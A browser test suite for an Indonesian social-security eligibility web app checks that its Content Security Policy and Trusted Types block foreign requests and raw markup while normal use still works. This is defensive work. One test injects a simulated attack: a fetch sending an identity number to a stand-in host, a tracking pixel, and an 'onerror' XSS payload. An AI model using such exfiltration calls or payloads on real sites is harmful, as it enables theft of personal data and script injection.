// The privacy promise enforced by the browser: each page's Content Security Policy and Trusted
// Types. Journeys through every tool raise no violation; a script injected as from the console
// cannot fetch from elsewhere, load a foreign image or write markup, and the app goes on.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { DIST } from './server.mjs';
import { phonePage } from './browser.mjs';
import { CheckApp, DATE, DRIVER } from './app.mjs';
import { useAppAndHost } from './setup.mjs';

const env = useAppAndHost();

/** A phone page whose every frame reports its policy violations into the returned list. */
async function watched(options = {}) {
  const { page, errors } = await phonePage(env.browser, { acceptDownloads: true, ...options });
  const violations = [];
  await page.context().exposeBinding('reportViolation', ({ frame }, v) => violations.push(`${frame.url()}: ${v}`));
  await page.context().addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => window.reportViolation(`${e.violatedDirective} ${e.blockedURI}`), true);
  });
  return { page, errors, violations };
}

/** The `directive` of the policy written in the built page `file`. */
function directive(file, name) {
  const page = readFileSync(resolve(DIST, file), 'utf8');
  const policy = page.match(/<meta http-equiv=Content-Security-Policy content="([^"]+)">/)?.[1];
  assert.ok(policy, `${file} carries a policy`);
  return policy.split(';').map((d) => d.trim()).find((d) => d.split(' ')[0] === name);
}

test('both pages carry the policy: nothing from elsewhere, no eval, markup only through the one policy', () => {
  for (const file of ['index.html', 'staff.html']) {
    assert.equal(directive(file, 'default-src'), "default-src 'self'");
    assert.equal(directive(file, 'connect-src'), "connect-src 'self'");
    assert.match(directive(file, 'script-src'), /^script-src 'self' 'wasm-unsafe-eval'( 'sha256-[A-Za-z0-9+/=]+')*$/);
    assert.doesNotMatch(directive(file, 'style-src'), /unsafe/);
    assert.equal(directive(file, 'object-src'), "object-src 'none'");
    assert.equal(directive(file, 'require-trusted-types-for'), "require-trusted-types-for 'script'");
    assert.equal(directive(file, 'trusted-types'), 'trusted-types cek-jamsostek cek-jamsostek-page');
  }
});

test('a journey, its share and reminder, a language switch and offline use raise no violation', async () => {
  const { page, errors, violations } = await watched();
  const app = new CheckApp(page, errors, env.server.url);
  await app.goto(`date=${DATE}`);
  await app.start();
  await app.walk(DRIVER);
  await app.seeResult();
  await page.locator('.share [data-action=copy]').click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('.plan a.remind').click()]);
  await download.path();
  await app.switchLanguage();
  await page.waitForFunction(() => document.documentElement.lang === 'en');
  await page.locator('.result').waitFor();
  // The service worker was registered through the policy: the page works offline.
  await page.waitForFunction(() => navigator.serviceWorker?.controller !== null, null, { timeout: 15000 });
  await page.context().setOffline(true);
  await page.reload();
  await page.locator('.result').waitFor();
  await app.goto(`date=${DATE}`);
  await app.start();
  await app.walk(DRIVER);
  await app.seeResult();
  assert.deepEqual(violations, []);
  assert.deepEqual(errors, []);
  await page.context().close();
});

test("the staff page's builder, planner, poster and list check raise no violation", async () => {
  const { page, errors, violations } = await watched();
  await page.goto(new URL('staff.html', env.server.url).href);
  await page.locator('[data-app-ready]').waitFor();
  await page.fill('#f-name', 'Kabupaten Contoh');
  await page.fill('#f-id', 'kab-contoh');
  await page.check('#f-payer-village');
  await page.fill('#f-pays_jkk', 'Rp 5.000');
  await page.waitForFunction(() => /kab-contoh/.test(document.getElementById('snippet')?.textContent));
  await Promise.all([page.waitForEvent('download'), page.click('[data-action=download]')]);
  await page.fill('#f-workers_fisher', '10.000');
  await page.fill('#f-start', '2026-11');
  await page.fill('#f-months', '12');
  await page.locator('#budget [data-total=public]').waitFor();
  await page.evaluate(() => { window.print = () => { window.printed = true; }; });
  await page.click('[data-action=poster]');
  await page.waitForFunction(() => window.printed);
  assert.equal(await page.locator('#poster svg.qr path').count(), 1);
  const list = 'work,age,citizen,nik,income,transport,dtks,group,jht\nown_account,45,id,1,1500000,0,1,fisher,0\n';
  await page.setInputFiles('#f-csv', { name: 'daftar.csv', mimeType: 'text/csv', buffer: Buffer.from(list) });
  await page.locator('#list-result .list-count').waitFor();
  await Promise.all([page.waitForEvent('download'), page.click('[data-action=export]')]);
  await page.click('[data-action=lang]');
  await page.waitForFunction(() => document.documentElement.lang === 'en');
  assert.deepEqual(violations, []);
  assert.deepEqual(errors, []);
  await page.context().close();
});

test('embedded in a host page whose own policy allows the frame, a journey raises no violation', async () => {
  const { page, errors, violations } = await watched();
  await page.goto(env.host.url);
  const frame = await (await page.locator('iframe').elementHandle()).contentFrame();
  await frame.locator('[data-app-ready]').waitFor();
  const inner = new CheckApp(frame, errors, env.server.url);
  await inner.start();
  await inner.walk(DRIVER);
  await frame.locator('dl.check').waitFor();
  await frame.locator('.button.primary').click();
  await frame.locator('.result').waitFor();
  assert.deepEqual(violations, []);
  assert.deepEqual(errors, []);
  await page.context().close();
});

test('a script injected as from the console cannot fetch, load an image from elsewhere or write markup, and the app goes on', async () => {
  for (const file of ['', 'staff.html']) {
    const { page, violations } = await watched();
    // Each request to elsewhere is stopped by the browser before it leaves (the test machine's
    // network is closed anyway, so a request that left would fail otherwise).
    const foreign = [];
    page.on('request', (r) => r.url().startsWith('https://example.org') && foreign.push(r));
    await page.goto(new URL(file ? file : `#date=${DATE}`, env.server.url).href);
    await page.locator('[data-app-ready]').waitFor();
    const heading = await page.locator('h1').first().innerText();
    const wrote = await page.evaluate(async () => {
      fetch('https://example.org/collect?nik=1').catch(() => {});
      document.body.append(Object.assign(document.createElement('img'), { src: 'https://example.org/pixel.png' }));
      try {
        document.querySelector('h1').innerHTML = '<img src=x onerror=alert(1)>Ditipu';
        return 'written';
      } catch (e) {
        return e.name;
      }
    });
    assert.equal(wrote, 'TypeError', 'the browser refuses a string written as markup');
    for (let i = 0; i < 30 && violations.length < 3; i++) await page.waitForTimeout(100);
    await page.waitForTimeout(300);
    const kinds = violations.map((v) => v.split(': ')[1].split(' ')[0]).sort();
    assert.deepEqual(kinds, ['connect-src', 'img-src', 'require-trusted-types-for'], `${file || 'app'}: ${violations.join('\n')}`);
    assert.deepEqual(foreign.map((r) => r.failure()?.errorText), foreign.map(() => 'csp'), 'each stopped by the policy');
    assert.equal(await page.locator('h1').first().innerText(), heading);
    // The app goes on: its own markup still reaches the page.
    if (file) {
      await page.click('[data-action=lang]');
      await page.waitForFunction(() => document.documentElement.lang === 'en');
    } else {
      await page.locator('.button.primary').click();
      await page.locator('form.question').waitFor();
    }
    await page.context().close();
  }
});

test("a script that took the policy's name first leaves no blank page: the app says it stopped, with 175", async () => {
  const { page } = await phonePage(env.browser);
  await page.addInitScript(() => window.trustedTypes?.createPolicy('cek-jamsostek', {}));
  await page.goto(`${env.server.url}#date=${DATE}`);
  const alert = page.locator('#died[role=alert]');
  await alert.waitFor({ timeout: 15000 });
  assert.match(await alert.innerText(), /berhenti bekerja[\s\S]*175/);
  await page.context().close();
});

test('inside a municipal site, copying the link works (the frame is allowed the clipboard)', async () => {
  const { page, errors, violations } = await watched();
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: env.server.url });
  await page.goto(env.host.url);
  const frame = await (await page.locator('iframe').elementHandle()).contentFrame();
  await frame.locator('[data-app-ready]').waitFor();
  await frame.goto(`${env.server.url}#embed=1&work=own_account&age=45&citizen=id&nik=1&income=1500000&transport=0&dtks=1&region=13.71&group=fisher&jht=0&date=${DATE}`);
  await frame.locator('.result').waitFor();
  await frame.locator('[data-action=copy]').click();
  await frame.locator('.copied', { hasText: 'Tautan disalin.' }).waitFor();
  assert.deepEqual(violations, []);
  assert.deepEqual(errors, []);
  await page.context().close();
});
